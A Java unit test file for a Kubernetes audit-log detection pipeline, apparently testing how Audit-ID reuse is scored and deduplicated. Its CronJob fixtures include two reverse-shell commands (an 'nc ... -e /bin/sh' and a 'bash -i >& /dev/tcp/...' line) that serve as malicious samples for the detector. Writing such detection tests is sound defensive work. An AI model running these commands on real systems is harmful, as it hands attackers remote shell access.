package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.DecoderConfig;
import dev.cronsentinel.config.ScoringConfig;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.time.Duration;
import java.util.List;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 2: the API server takes a client's {@code Audit-ID} header as is, so the dedupe recognises a
 * redelivery by the audit ID together with the request; a reused ID with another request is scored, and the
 * reuse is evidence.
 */
class AuditIdReuseTest {
    private static final Duration WINDOW = Duration.ofMinutes(10);

    private static KeyedOneInputStreamOperatorTestHarness<String, WorkloadEvent, ScoredEvent> harness() throws Exception {
        ScoringFunction fn = new ScoringFunction(TestData.defaultScorer().rules(), DecoderConfig.defaults(), new ScoringConfig(WINDOW));
        var h = new KeyedOneInputStreamOperatorTestHarness<>(new KeyedProcessOperator<>(fn), new ActorNamespaceKey(), Types.STRING);
        h.open();
        return h;
    }

    /** A CronJob create by bob in team-a at level Request, with the given audit ID, name, time and container command. */
    private static WorkloadEvent create(String auditId, String name, String second, String command) {
        String json = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Request\",\"auditID\":\"" + auditId + "\","
                + "\"stage\":\"ResponseComplete\",\"verb\":\"create\",\"user\":{\"username\":\"bob\"},\"sourceIPs\":[\"10.9.0.3\"],"
                + "\"objectRef\":{\"resource\":\"cronjobs\",\"namespace\":\"team-a\",\"name\":\"" + name + "\",\"apiGroup\":\"batch\"},"
                + "\"responseStatus\":{\"code\":201},\"requestObject\":{\"metadata\":{\"name\":\"" + name + "\"},\"spec\":{\"schedule\":\"@hourly\","
                + "\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"registry.team-a/tool:3\","
                + "\"command\":[\"sh\",\"-c\",\"" + command + "\"]}]}}}}}},"
                + "\"stageTimestamp\":\"2026-10-02T07:00:" + second + ".000000Z\"}";
        List<WorkloadEvent> events = TestData.decode(json).events;
        assertThat(events).hasSize(1);
        return events.get(0);
    }

    private static void send(KeyedOneInputStreamOperatorTestHarness<String, WorkloadEvent, ScoredEvent> h, WorkloadEvent e) throws Exception {
        h.processElement(new StreamRecord<>(e, e.eventTime()));
    }

    private static boolean marksReuse(ScoredEvent s) {
        return s.signals().stream().map(Signal::id).anyMatch(ScoringFunction.AUDIT_ID_REUSE::equals);
    }

    @Test
    void aMaliciousCreateReusingABenignOnesAuditIdIsScoredWithTheReuseAsEvidence() throws Exception {
        var h = harness();
        send(h, create("7e1f-aa", "report", "01", "echo nightly report"));
        send(h, create("7e1f-aa", "report", "04", "nc 198.51.100.23 31337 -e /bin/sh"));
        List<ScoredEvent> out = h.extractOutputValues();
        assertThat(out).hasSize(2);
        assertThat(out.get(0).alertable()).isFalse();
        assertThat(marksReuse(out.get(0))).isFalse();
        assertThat(out.get(1).alertable()).isTrue();
        assertThat(marksReuse(out.get(1))).isTrue();
        assertThat(out.get(1).signals()).filteredOn(s -> s.id().equals(ScoringFunction.AUDIT_ID_REUSE))
                .singleElement().satisfies(s -> {
                    assertThat(s.weight()).isZero();
                    assertThat(s.value()).isEqualTo("7e1f-aa");
                });
        h.close();
    }

    @Test
    void aRedeliveryIsStillScoredOnceAndAnotherObjectUnderTheSameIdIsNot() throws Exception {
        var h = harness();
        WorkloadEvent first = create("0c2d", "cleanup", "10", "find /tmp -mtime +3 -delete");
        send(h, first);
        send(h, first); // webhook retry: same bytes
        send(h, create("0c2d", "cleanup", "12", "find /tmp -mtime +3 -delete")); // same request, other stage time
        assertThat(h.extractOutputValues()).hasSize(1);

        send(h, create("0c2d", "cleanup-2", "15", "find /tmp -mtime +3 -delete")); // another object, same ID
        assertThat(h.extractOutputValues()).hasSize(2);
        assertThat(marksReuse(h.extractOutputValues().get(1))).isTrue();
        h.close();
    }

    @Test
    void bothDedupeStatesAreForgottenByTheirTimers() throws Exception {
        var h = harness();
        WorkloadEvent a = create("77", "x", "20", "true");
        send(h, a);
        send(h, create("77", "x", "21", "bash -i >& /dev/tcp/192.0.2.5/1 0>&1"));
        assertThat(h.numKeyedStateEntries()).isEqualTo(2);
        h.processWatermark(a.eventTime() + WINDOW.toMillis() + 2 * 60_000);
        assertThat(h.numKeyedStateEntries()).isZero();
        assertThat(h.numEventTimeTimers()).isZero();
        h.close();
    }
}
